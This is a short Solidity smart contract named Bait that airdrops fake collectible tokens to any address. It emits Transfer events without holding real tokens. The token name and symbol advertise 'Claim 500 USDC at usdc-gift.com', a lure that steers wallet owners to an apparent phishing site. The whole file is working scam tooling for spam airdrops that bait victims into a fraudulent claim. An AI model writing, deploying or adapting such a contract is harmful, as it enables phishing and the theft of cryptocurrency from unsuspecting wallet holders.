// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// What nobody asked for: collectibles that lure their owners to a page. It says that there are some, and keeps none.
contract Bait {
    string public constant name = "Claim 500 USDC at usdc-gift.com";
    string public constant symbol = "usdc-gift.com";

    event Transfer(address indexed from, address indexed to, uint256 indexed id);

    function drop(address to) external {
        emit Transfer(address(0), to, 1);
    }
}
